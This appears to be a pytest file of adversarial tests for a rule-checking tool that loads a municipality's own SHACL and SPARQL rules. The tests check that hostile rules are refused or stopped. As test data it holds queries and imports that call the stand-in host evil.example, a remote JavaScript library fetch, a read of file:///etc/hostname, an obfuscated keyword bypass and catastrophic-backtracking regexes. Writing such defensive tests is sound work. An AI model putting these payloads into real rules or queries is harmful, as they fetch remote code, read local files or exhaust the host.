"""Rules of a municipality's own that harm or mislead, through the command line: anchors D5, cases 13 to 18."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.adversarial.bounded import Done, refused, run
from tests.adversarial.landscapes import APP, GOOD, put

RULE = """\
@prefix kw: <https://w3id.org/kaderwacht/def#> .
@prefix regel: <https://w3id.org/kaderwacht/regel/> .
@prefix bep: <https://w3id.org/kaderwacht/bepaling/> .
@prefix feitengroep: <https://w3id.org/kaderwacht/feitengroep/> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
regel:NUMMER a kw:Regel, sh:NodeShape ;
  dcterms:identifier "NUMMER" ; rdfs:label "Proef"@nl, "Trial"@en ;
  kw:norm "Wat moet."@nl, "What must."@en ; kw:toelichting "Waarom."@nl, "Why."@en ;
  kw:kader kw:Kader4 ; kw:grondslag bep:programmakader-4 ; kw:feitengroep feitengroep:architectuur ;
  kw:toetsmoment kw:Peildatum ; kw:bewijs false ; kw:afwijkbaar true ; kw:status kw:Actief ; kw:sinds "2026.11" ;
  kw:herstel "Doe iets."@nl, "Do something."@en ; sh:targetClass kw:Applicatie ; sh:severity sh:Violation ;
  BODY .
"""
SPARQL = """sh:sparql [ a sh:SPARQLConstraint ; sh:prefixes <https://w3id.org/kaderwacht/regel/> ;
    sh:message "{$this} faalt"@nl, "{$this} fails"@en ; sh:select \"\"\"
%s
\"\"\" ]"""
FAILS = (
    'sh:property [ sh:path kw:gebruikStatus ; sh:hasValue "Gepland" ; '
    'sh:message "{$this} faalt"@nl, "{$this} fails"@en ]'
)


def check(
    folder: Path, *bodies: str, more: str = "", extra: str = "", args: tuple[str, ...] = (), seconds: int = 40
) -> Done:
    """Check the good landscape (and ``extra`` facts) with rules EIGEN-001, … of these bodies."""
    ids = [f"EIGEN-{number:03}" for number in range(1, len(bodies) + 1)]
    put(folder, "eigen/ids.txt", "".join(f"{name}\n" for name in ids))
    for name, body in zip(ids, bodies, strict=True):
        put(folder, f"eigen/eigen/{name}.ttl", RULE.replace("NUMMER", name).replace("BODY", body) + more)
    put(folder, "a.ttl", GOOD + extra)
    call = ("check", "a.ttl", "--rules", "eigen", "--only", "EIGEN", "--format", "json", "--date", "2026-11-23", *args)
    return run(*call, cwd=folder, seconds=seconds)


def test_a_plain_rule_works(tmp_path: Path) -> None:
    done = check(tmp_path, FAILS)
    assert done.code == 1, done.err
    assert [found["rule"] for found in json.loads(done.out)["findings"]] == ["EIGEN-001"]


# -- 13: what reaches out


@pytest.mark.parametrize(
    ("select", "word"),
    [
        ("SELECT $this WHERE { $this a kw:Applicatie . SERVICE <http://evil.example/> { ?a ?b ?c } }", "SERVICE"),
        (
            "SELECT $this WHERE { $this a kw:Applicatie . \\\\u0053ERVICE <http://evil.example/> { ?a ?b ?c } }",
            "SERVICE",
        ),
        ("SELECT $this FROM <http://evil.example/> WHERE { $this a kw:Applicatie }", "FROM"),
        ("SELECT $this FROM NAMED <file:///etc/hostname> WHERE { $this a kw:Applicatie }", "FROM"),
        ("LOAD <http://evil.example/>", "LOAD"),
        ("SELECT $this WHERE { GRAPH ?g { $this a kw:Applicatie } }", "GRAPH"),
    ],
)
def test_sparql_that_reaches_out_is_refused_at_load(select: str, word: str, tmp_path: Path) -> None:
    refused(check(tmp_path, SPARQL % select), 4, "EIGEN-001.ttl:", word)


@pytest.mark.parametrize(
    ("addition", "word"),
    [
        ("<https://w3id.org/kaderwacht/regel/> owl:imports <http://evil.example/rules> .", "owl:imports"),
        ("regel:EIGEN-001 sh:js [ sh:jsLibrary [ sh:jsLibraryURL <http://evil.example/a.js> ] ] .", "sh:js"),
        ("regel:EIGEN-001 sh:target [ a sh:SPARQLTarget ; sh:select 'SELECT ?this { SERVICE <http://evil.example/> {} }' ] .",  # noqa: E501
         "SPARQL"),
        ("regel:EIGEN-001 sh:rule [ a sh:SPARQLRule ; sh:construct 'CONSTRUCT {} WHERE { SERVICE <http://evil.example/> {} }' ] .",  # noqa: E501
         "sh:rule"),
        ("regel:f a sh:SPARQLFunction ; sh:select 'SELECT ?x { SERVICE <http://evil.example/> {} }' .", "SPARQLFunction"),  # noqa: E501
        ("regel:EIGEN-001 sh:shapesGraph <http://evil.example/shapes> .", "sh:shapesGraph"),
    ],
)  # fmt: skip
def test_what_reaches_beyond_core_and_sparql_is_refused_at_load(addition: str, word: str, tmp_path: Path) -> None:
    refused(check(tmp_path, FAILS, more=addition + "\n"), 4, "EIGEN-001.ttl:", word)


# -- 14: words that look like keywords


@pytest.mark.parametrize(
    "pattern",
    [
        "$this kw:gebruikStatus ?appService . FILTER (?appService != 'Gepland')",
        "$this kw:gebruikStatus ?x . # the values are here\n FILTER (?x != 'SERVICE MINUS FROM')",
        "$this <http://purl.org/dc/terms/identifier> ?graphValue . FILTER (STRLEN(?graphValue) > 0)",
    ],
    ids=["variable", "comment", "name"],
)
def test_a_word_like_a_keyword_works_or_is_refused_with_its_line(pattern: str, tmp_path: Path) -> None:
    done = check(tmp_path, SPARQL % f"SELECT $this WHERE {{ {pattern} }}")
    if done.code == 4:
        refused(done, 4, "EIGEN-001.ttl:")
    else:
        assert done.code == 1, done.err
        assert len(json.loads(done.out)["findings"]) == 1


# -- 15: typos


def test_all_typos_of_a_rulebook_come_at_once(tmp_path: Path) -> None:
    body = (
        'sh:targetclas kw:Aplicatie ; sh:deactivated "true" ; '
        'sh:property [ sh:path kw:onbekend ; sh:minCount "1" ; sh:maxCout 1 ; sh:severity sh:Erg ]'
    )
    done = check(tmp_path, body, FAILS.replace("hasValue", "hasvalue"))
    refused(done, 4, "EIGEN-001.ttl:16", "sh:targetclas", "sh:maxCout", "kw:onbekend", "sh:Erg", "EIGEN-002.ttl:16")


# -- 16: nothing to test


def test_a_rule_that_tests_nothing_is_told_and_strict_blocks(tmp_path: Path) -> None:
    done = check(tmp_path, FAILS.replace('"Gepland"', '"In productie"'), args=("--strict",))
    assert done.code == 0, done.err
    put(tmp_path, "b.ttl", GOOD.replace("a kw:Applicatie ;", "a kw:Kanaal ;"))
    call = ("check", "b.ttl", "--rules", "eigen", "--only", "EIGEN", "--date", "2026-11-23")
    # nothing at all could be assessed
    refused(run(*call, cwd=tmp_path), 3, "niets getoetst")


# -- 17: endless rules


@pytest.mark.parametrize(
    "body",
    [
        'sh:property [ sh:path rdfs:comment ; sh:pattern "^(a+)+$" ; sh:message "x"@nl, "x"@en ]',
        SPARQL % "SELECT $this WHERE { $this rdfs:comment ?c . FILTER (REGEX(?c, '^(a|a)*$')) }",
        SPARQL % "SELECT $this WHERE { $this rdfs:comment ?c . FILTER (REGEX(?c, '^(([a-z])+.)+[A-Z]([a-z])+$')) }",
    ],
    ids=["pattern", "alternatives", "nested"],
)
def test_a_regular_expression_that_explodes_is_refused_or_ends(body: str, tmp_path: Path) -> None:
    done = check(tmp_path, body, extra=f'<{APP}> rdfs:comment "{"a" * 40}!" .\n')
    if done.code == 4:
        refused(done, 4, "EIGEN-001.ttl:", "herhaling")
    else:
        assert done.code in (0, 1), (done.code, done.err)
        assert done.seconds < 10


def test_an_endless_rule_is_stopped_and_the_others_finish(tmp_path: Path) -> None:
    cross = (
        "SELECT $this WHERE { $this a kw:Applicatie . ?a kw:naam ?x . ?b kw:naam ?y . ?c kw:naam ?z . ?d kw:naam ?w . "
        "FILTER (STRLEN(CONCAT(?x, ?y, ?z, ?w)) > 100000) }"
    )
    many = "".join(f'<http://e/n{number}> kw:naam "n{number}" .\n' for number in range(3000))
    done = check(tmp_path, FAILS, SPARQL % cross, extra=many, seconds=90)
    if done.code == 4:
        refused(done, 4, "EIGEN-002.ttl:")
        return
    assert done.code == 5, (done.code, done.err)
    document = json.loads(done.out)
    assert [found["rule"] for found in document["findings"]] == ["EIGEN-001"]
    assert {row["verdict"] for row in document["verdicts"] if row["rule"] == "EIGEN-002"} == {"niet te beoordelen"}
    assert any("EIGEN-002" in limit for limit in document["limits"])
    assert done.megabytes < 2_500


def test_a_long_path_over_a_long_chain_ends(tmp_path: Path) -> None:
    chain = "".join(f"<http://e/k{number}> kw:volgtOp <http://e/k{number + 1}> .\n" for number in range(100_000))
    body = (
        "sh:property [ sh:path ( kw:gebruiktVersie [ sh:zeroOrMorePath "
        "[ sh:alternativePath ( kw:volgtOp [ sh:inversePath kw:volgtOp ] ) ] ] ) ; sh:minCount 1 ; "
        'sh:message "x"@nl, "x"@en ]'
    )
    link = "<https://w3id.org/kaderwacht/id/pakketversie/V1> kw:volgtOp <http://e/k0> .\n"
    done = check(tmp_path, body, extra=chain + link, seconds=90)
    if done.code == 4:
        refused(done, 4, "EIGEN-001.ttl:")
    else:
        assert done.code in (0, 5), (done.code, done.err)


# -- 18: shapes that go round


@pytest.mark.parametrize("engine", ["sets", "pyshacl"])
def test_shapes_that_refer_to_each_other_are_refused_or_judged_alike(engine: str, tmp_path: Path) -> None:
    shapes = (
        "regel:EIGEN-001-a a sh:NodeShape ; sh:property [ sh:path kw:gebruiktVersie ; sh:node regel:EIGEN-001-b ] .\n"
        "regel:EIGEN-001-b a sh:NodeShape ; "
        "sh:property [ sh:path [ sh:inversePath kw:gebruiktVersie ] ; sh:node regel:EIGEN-001-a ] .\n"
    )
    body = 'sh:node regel:EIGEN-001-a ; sh:message "x"@nl, "x"@en'
    done = check(tmp_path, body, more=shapes, args=("--engine", engine))
    refused(done, 4, "EIGEN-001.ttl:")
